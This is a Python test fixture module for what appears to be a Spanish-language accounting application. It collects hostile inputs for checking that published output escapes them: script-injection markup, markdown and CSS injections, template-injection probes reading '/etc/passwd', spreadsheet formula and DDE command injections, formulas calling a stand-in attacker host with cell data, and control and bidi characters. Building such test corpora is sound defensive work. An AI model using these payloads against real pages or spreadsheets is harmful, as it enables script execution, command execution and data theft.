"""Texts that attack whoever opens what is published: each is pushed through every field there is.

``MARK`` in a payload is what running code would leave behind: a property of the page's window.
"""

from __future__ import annotations

MARK = "cuentaPwned"

MARKUP = (
    f"<script>window.{MARK}=1</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"</style><script>window.{MARK}=1</script>",
    f"</title><script>window.{MARK}=1</script>",
    f"</textarea></noscript></template><script>window.{MARK}=1</script>",
    f"--><script>window.{MARK}=1</script><!--",
    f"]]><script>window.{MARK}=1</script>",
    f"<img src=x onerror=window.{MARK}=1>",
    f'"><img src=x onerror="window.{MARK}=1">',
    f"' onmouseover='window.{MARK}=1",
    f'" onfocus="window.{MARK}=1" autofocus tabindex="0',
    f"` onload=`window.{MARK}=1",
    f"<svg onload=window.{MARK}=1><animate onbegin=window.{MARK}=1 attributeName=x dur=1s>",
    f"<svg><script href=data:text/javascript,window.{MARK}=1 /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=window.{MARK}=1></style></mglyph></table></mtext></math>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f'<a href="javascript:window.{MARK}=1">x</a>',
    f"javascript:window.{MARK}=1//",
    f"data:text/html,<script>opener.{MARK}=1</script>",
    "vbscript:msgbox(1)",
    f'<base href="https://attacker.invalid/"><form action=javascript:window.{MARK}=1><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    "<link rel=stylesheet href=https://attacker.invalid/x.css>",
    "<style>@import 'https://attacker.invalid/x.css';body{background:url(https://attacker.invalid/x)}</style>",
    "}</style>body{display:none}<!--",
    "expression(alert(1));background:url(javascript:alert(1))",
    '{{ 7*7 }}{% include "/etc/passwd" %}{{ cycler.__init__.__globals__ }}${7*7}#{7*7}<%= 7*7 %>',
    '"}],"x":[{"</script>',
    '\\"},{"a":1}//\\u003cscript\\u003e',
    "&lt;script&gt;&#60;script&#62;&amp;lt;&nbsp;&quot;",
    "%3Cscript%3E%00../../../etc/passwd",
    f"<scr\x00ipt>window.{MARK}=1</scr\x00ipt>",
    f"<\u0000img src=x onerror=window.{MARK}=1>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"＜script＞window.{MARK}=1＜/script＞",
)

MARKDOWN = (
    "![x](https://attacker.invalid/p.png)",
    "[pinche aquí](javascript:alert(1))",
    "<https://attacker.invalid>",
    "https://attacker.invalid/x www.attacker.invalid someone@attacker.invalid",
    "[x]: https://attacker.invalid\n[x]",
    "```\n</code></pre><script>x</script>",
    "# Título falso",
    "- [x] hecho\n1. uno\n> cita\n---\n===",
    "| a | b |\n|---|---|\n| c | d |",
    "$$\\href{javascript:alert(1)}{x}$$ $`x`$",
    "@octocat #1 GH-1 octo-org/repo#1",
    "<details open><summary>x</summary>",
    "&colon;&lpar;&#x6A;avascript:x",
    "[^1]: nota\n[^1]",
)

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://attacker.invalid?"&A1;"x")',
    "+1+1",
    "-1+1",
    "-2*3",
    "-A1",
    "-US$3",
    "-M$3",
    "+56 9 1234 5678",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    '"=1+1"',
    "''=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "x,=1+1",
    "x;=1+1",
    'x",=1+1',
    "x\t=1+1",
    "%0A=1+1",
    'DDE("cmd";"/C calc";"x")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://attacker.invalid")',
    "-",
    "--",
    "- detalle",
    "-5 personas",
)

NUMBERS = ("-5", "+5", "-5,3 %", "-5,3%", "(1.234)", "- 12", "-1.234,56", "-$ 1.234", "- $1.234", "+4,5%", "-.5", "−12")
"""Signed figures as accounts print them: no spreadsheet may take them for text."""

CONTROLS = (
    "\x00",
    "a\x00b",
    "a\x07\x08\x1b[31mrojo\x1b[0m",
    "\x1b]0;título\x07",
    "a\x7fb\x80c\x9fd",
    "a\u2028b\u2029c",
    "a\x0bb\x0cc\x1cd\x85e",
    "\u202e000.1 latoT\u202c",
    "\u2066a\u2069\u200e\u200f\u061c",
    "\ufeffa\ufff9b\ufffb",
    "\ud800",
    "a\udfffb\udc80",
    "\ud83d\ude00",
    "\ufffe\uffff\U0001fffe",
    "\U000e0041\U000e0042",
    "_x000D_ _x005F_ _xD800_",
    "á n̄ Å",
    "e" + "\u0301" * 500,
)

LONG = ("x" * 40_000, "🙂" * 20_000, "=" * 40_000, "<b>" * 14_000, "palabra " * 6_000)

CORPUS = (*MARKUP, *MARKDOWN, *FORMULAS, *NUMBERS, *CONTROLS, *LONG)
